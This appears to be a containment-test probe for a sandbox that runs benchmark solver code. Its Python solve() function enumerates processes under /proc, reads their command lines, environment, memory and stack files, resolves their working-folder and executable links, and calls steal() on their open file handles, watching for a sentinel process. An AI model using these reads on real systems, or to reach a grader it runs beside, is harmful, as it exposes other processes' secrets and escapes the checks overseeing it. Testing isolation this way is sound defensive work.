# attack: read other processes through /proc: command lines, memory maps, open files, working folders
# contained-at: namespaces restricted
# expect: seed-score
# bites-at: none
import os

from kit import *


def solve(instance):
    seen = set(host.PIDS) | {str(os.getppid())}
    with quietly():
        seen |= {p for p in os.listdir("/proc") if p.isdigit()}
    for pid in sorted(seen - {str(os.getpid())}):
        for name in ("cmdline", "maps", "environ", "mem", "syscall", "stack"):
            with quietly():
                data = read(f"/proc/{pid}/{name}", 1 << 16)
                tell(data, f"/proc/{pid}/{name}")
                if b"journeyman" in data or (pid == host.SENTINEL_PID and data):
                    got(f"read /proc/{pid}/{name}")
        for name in ("cwd", "root", "exe"):
            with quietly():
                target = os.readlink(f"/proc/{pid}/{name}")
                if pid == host.SENTINEL_PID:
                    got(f"/proc/{pid}/{name} -> {target}")
        if host.LEVEL == "none" and pid != host.SENTINEL_PID:
            # Nothing is in the way here, and whoever runs these tests keeps what is in the pipes of his other processes.
            continue
        with quietly():
            for fd in os.listdir(f"/proc/{pid}/fd"):
                steal(f"/proc/{pid}/fd/{fd}")
    return answer(instance)
